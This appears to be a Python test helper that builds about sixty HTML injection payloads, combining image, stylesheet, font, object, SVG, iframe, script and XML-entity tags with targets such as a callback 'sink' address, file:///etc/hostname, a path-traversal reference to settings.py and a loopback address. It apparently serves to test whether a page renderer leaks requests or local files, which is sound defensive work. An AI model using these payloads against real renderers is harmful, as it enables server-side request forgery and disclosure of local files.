"""Sixty texts that would make a page do something, if ever they came to be a part of it."""

_PLACES = {
    "sink": "SINK/a",
    "file": "file:///etc/hostname",
    "bare path": "/etc/hostname",
    "another font": "packaged:../../settings.py",
    "data": "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='SINK/b'/></svg>",
    "no scheme": "//127.0.0.1:9/a",
}
_WAYS = {
    "picture": '<img src="URL">',
    "set of pictures": '<picture><source srcset="URL"><img srcset="URL" src="URL"></picture>',
    "style sheet": '<link rel=stylesheet href="URL">',
    "import": '<style>@import url("URL")</style>',
    "font": '<style>@font-face{font-family:x;src:url("URL")}p{font-family:x}</style><p>x',
    "object": '<object data="URL"></object>',
    "embed": '<embed src="URL">',
    "attachment": '<link rel=attachment href="URL">',
    "svg": '<svg xmlns="http://www.w3.org/2000/svg"><image href="URL" width="9" height="9"/><use href="URL#a"/></svg>',
}
_OTHERS = {
    "frame": '<iframe src="SINK/a"></iframe>',
    "background": '<p style="background:url(SINK/a);list-style-image:url(SINK/b)">x',
    "content": "<style>p::before{content:url(SINK/a)}</style><p>x",
    "script": "<script src='SINK/a'></script><script>fetch('SINK/b')</script>",
    "attached link": '<a rel=attachment href="file:///etc/hostname">x</a>',
    "entities": '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/hostname">]><p>&y;',
    "base": '<base href="SINK/"><img src="a">',
    "deep": "<div>" * 50 + '<img src="SINK/a">',
}


def payloads(sink: str) -> dict[str, str]:
    """Return them by name; ``sink`` is the address of who would hear."""
    made = {
        f"{way}, {place}": html.replace("URL", url) for way, html in _WAYS.items() for place, url in _PLACES.items()
    }
    return {name: html.replace("SINK", sink) for name, html in (made | _OTHERS).items()}
